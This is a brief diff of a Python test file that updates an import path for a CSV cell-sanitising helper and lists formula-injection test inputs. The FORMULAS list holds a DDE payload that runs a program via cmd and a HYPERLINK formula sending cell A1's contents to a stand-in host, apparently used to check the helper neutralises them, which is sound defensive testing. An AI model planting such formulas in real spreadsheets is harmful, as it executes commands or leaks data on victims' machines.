@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 import socialx as api
-from socialx.disk import as_cell
+from socialx.core.disk import as_cell
 
 FORMULAS = ['=HYPERLINK("http://x?"&A1,"k")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"]
 PLAIN = ["400001", "-1", "+1", "-1.5", "S=1", "a@b", ""]
